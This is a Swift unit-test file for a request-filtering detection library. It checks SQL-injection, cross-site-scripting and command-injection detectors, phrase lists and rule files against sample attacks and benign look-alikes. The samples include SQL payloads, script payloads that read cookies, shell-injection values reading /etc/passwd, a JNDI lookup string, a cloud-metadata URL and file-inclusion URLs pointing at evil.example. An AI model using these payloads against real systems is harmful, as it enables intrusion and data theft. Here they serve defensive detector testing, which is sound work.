@testable import Detection
import Foundation
import Testing
import TestSupport

/// The tokenizing detectors and the phrase lists: attacks of each shape are found, and the text
/// that looks like them (inch marks, quotations, English with SQL words, markup without script)
/// is not. The devsets (../shared/devsets) and bench/quality measure them at scale.
@Suite struct InjectionDetectorTests {
    func sql(_ text: String) -> Bool { Array(text.utf8).withUnsafeBytes { SQLInjection.detect($0) != nil } }
    func xss(_ text: String) -> Bool { Array(text.utf8).withUnsafeBytes { CrossSiteScripting.detect($0) != nil } }

    @Test func sqlInjectionShapes() {
        let attacks = [
            "1' or '1'='1", "' OR 1=1-- ", "admin'--", "1 AND 1=1", " OR x=x#", "1) or (1=1", "\" or true--",
            "1 UNION ALL SELECT null,version()--", "-1/**/union/**/select/**/1,2", "x'; DROP TABLE users; --",
            "1; exec master..xp_cmdshell 'dir'", "' AND SLEEP(5)#", "1' AND extractvalue(1,concat(0x7e,version()))--",
            "1 ORDER BY 3--", "' GROUP BY a HAVING 1=1 --", "1' waitfor delay '0:0:5'--", "select * from information_schema.tables",
            "(select @@version)", "' INTO OUTFILE '/tmp/x", "1 || user_id is not null", "' AND (SELECT 1 FROM dual)=1",
            "CASE WHEN (1=1) THEN 1 ELSE 0 END", "x' like 'a%",
        ]
        for attack in attacks { #expect(sql(attack), "\(attack)") }
    }

    @Test func sqlLookAlikesAreNotInjections() {
        let benign = [
            "O'Brien and Smith", "2 3/4\" - VINTAGE", "\"NOT ON FACEBOOK\"", "\"LIKE\" STAMP", "1 AND 1/2\" BUTTON",
            "DANCIN' LIKE A ROBOT ON FIRE", "select a plan from our list", "order by date", "you or someone like you",
            "\"INTO THE WILD\"", "7\" #2 CIRCULAR NEEDLE", "-BABY -TODDLER' --INFANT", "1; exec will create the case 7",
            "mother and daughter in town", "rock and roll <3", "Q&A: what's new?", "it's 5' 11\" tall", "'-\"8 TRACK\" PLAYER",
            "price < 100 and > 50", "DATE_FORMAT:'%B %D, %Y'", "delete from cart not working", "select * from tutorial",
        ]
        for text in benign { #expect(!sql(text), "\(text)") }
    }

    @Test func crossSiteScriptingShapes() {
        let attacks = [
            "<script>alert(1)</script>", "<ScRiPt src=//x.example/a.js>", "\"><img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<iframe src=//evil.example>",
            "\" onmouseover=\"alert(1)", "' autofocus onfocus=alert(1) x='", "javascript:alert(document.cookie)",
            "<div style=\"width: expression(alert(1))\">", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
            "';alert(String.fromCharCode(88))//", "\"-confirm(1)-\"", "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<a href=\"&#0000000106;avascript:alert(1)\">x</a>",
        ]
        for attack in attacks { #expect(xss(attack), "\(attack)") }
        // Leading zeros do not count against a reference's digits (the same reader decodes for htmlEntityDecode).
        #expect(Transforms.apply(.htmlEntityDecode, Array("&#000000060;&#x00000003e".utf8)) == Array("<>".utf8))
    }

    @Test func markupWithoutScriptIsNotAnAttack() {
        let benign = [
            "<b>bold</b> and <i>italic</i>", "<a href=\"/products/42\">see</a>", "if a<b and c>d then", "x > y",
            "JavaScript: Basics of JavaScript Language", "javascript: closures (part 2)", "The cookie monster",
            "Can you confirm this?", "<p class=\"online\">hi</p>", "I'm online=yes", "<img src=\"/a.png\" alt=\"a\">",
            "\"quoted\" - alert levels", "it's - prompt action",
        ]
        for text in benign { #expect(!xss(text), "\(text)") }
    }

    @Test func phraseListModes() throws {
        func list(_ text: String) throws -> PhraseList { try PhraseList.parse(Array(text.utf8), path: "test.txt") }
        func found(_ list: PhraseList, _ value: String) -> Bool { Array(value.utf8).withUnsafeBytes { list.firstMatch(in: $0) != nil } }
        let commands = try list("# shells\n# match: command\ncat\nid\r\nwhoami\n\n")
        #expect(commands.mode == .command && commands.phrases.count == 3)
        for attack in ["x;cat /etc/passwd", "8.8.8.8 | id", "a && whoami", "`id`", "$(whoami)", "x;/bin/cat /etc/hosts", "x\nid"] {
            #expect(found(commands, attack), "\(attack)")
        }
        for text in ["cats and dogs", "cat food", "a;category", "valid id", "tom & idris"] { #expect(!found(commands, text), "\(text)") }
        let calls = try list("# match: call\nsystem\n")
        #expect(found(calls, "system('id')") && found(calls, "SYSTEM/**/('id')"))
        #expect(!found(calls, "the system is down") && !found(calls, "operating system (OS)") && !found(calls, "filesystem("))
        let words = try list("# match: word\nphpsessid\n")
        #expect(found(words, "PHPSESSID") && !found(words, "myphpsessidx"))
        let anywhere = try list("etc/passwd\n")
        #expect(anywhere.mode == .substring && found(anywhere, "../../ETC/PASSWD%00"))
        #expect(throws: RuleFileError.self) { try list("# match: fuzzy\nx\n") }
        #expect(throws: RuleFileError.self) { try list("# only comments\n") }
    }

    @Test func pmFromFileRulesReadListsBesideTheRuleFile() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("diffai-pm-\(getpid())")
        try FileManager.default.createDirectory(at: folder.appendingPathComponent("rules/data"), withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        try "# match: command\ncat\n".write(to: folder.appendingPathComponent("rules/data/cmd.txt"), atomically: true, encoding: .utf8)
        let rules = """
        [{"id": 1, "alert": "cmd", "conditions": [{"target": "args", "operator": "pmFromFile", "value": "rules/data/cmd.txt"}]},
         {"id": 2, "alert": "sqli", "conditions": [{"target": "args", "operator": "detectSQLi"}]},
         {"id": 3, "alert": "xss", "conditions": [{"target": "args", "operator": "detectXSS"}]}]
        """
        let path = folder.appendingPathComponent("rules.json").path
        try rules.write(toFile: path, atomically: true, encoding: .utf8)
        let set = try RuleSet(rules: RuleFile.load(path: path))
        #expect(matchedIDs(set, request("/p?h=x%3Bcat%20/etc/x")) == [1])
        #expect(matchedIDs(set, request("/p?q=1%27%20or%20%271%27%3D%271")) == [2])
        #expect(matchedIDs(set, request("/p?q=%3Csvg%20onload%3Dalert(1)%3E")) == [3])
        #expect(matchedIDs(set, request("/p?q=cat%20food&r=O%27Brien")).isEmpty)
        // A list outside the rule file's folder, a missing list, a value for a detector: refused, clearly.
        for (bad, message) in [("\"value\": \"../x.txt\"", "without '..'"), ("\"value\": \"rules/data/none.txt\"", "cannot read"),
                               ("\"value\": \"/etc/passwd\"", "relative")] {
            let text = "[{\"id\": 1, \"alert\": \"x\", \"conditions\": [{\"target\": \"args\", \"operator\": \"pmFromFile\", \(bad)}]}]"
            try text.write(toFile: path, atomically: true, encoding: .utf8)
            #expect(throws: RuleFileError.self) { try RuleFile.load(path: path) }
            do { _ = try RuleFile.load(path: path) } catch { #expect(error.description.contains(message), "\(error.description)") }
        }
        #expect(ruleFileError("[{\"id\": 1, \"alert\": \"x\", \"conditions\": [{\"target\": \"args\", \"operator\": \"detectSQLi\", \"value\": \"x\"}]}]")
            .contains("takes no value"))
    }

    /// The default rules load with their lists from the repository, and each list's own
    /// first-line attacks are caught by the rule that reads it.
    @Test func defaultRulesCarryTheirLists() throws {
        let set = try RuleSet(rules: RuleFile.load(path: TestPaths.packageRoot.appendingPathComponent("rules.json").path))
        let cases: [(String, Int)] = [
            ("/p?f=..%2F..%2Fetc%2Fpasswd", 3101), ("/.git/config", 3102), ("/p?ip=1.1.1.1%3Bwhoami", 4101),
            ("/p?c=passthru(%27ls%27)", 4103), ("/p?x=%24%7Bjndi%3Aldap%3A%2F%2Fa%2Fb%7D", 6101),
            ("/p?u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data", 8101), ("/p?PHPSESSID=abc", 8102),
            ("/p?page=http%3A%2F%2Fevil.example%2Fx.txt", 5103),
            // The shell's quoting undone first: c'a't, w\ho\am\i, ip^config, ;${IFS}id
            ("/p?h=x%3Bc%27a%27t%20/etc/hosts", 4101), ("/p?h=x%7Cw%5Cho%5Cam%5Ci", 4101), ("/p?h=x%26ip%5Econfig%20/all", 4102),
            ("/p?h=x%3B%24%7BIFS%7Did", 4101),
        ]
        for (target, id) in cases { #expect(matchedIDs(set, request(target)).contains(id), "\(target) should match \(id)") }
    }
}
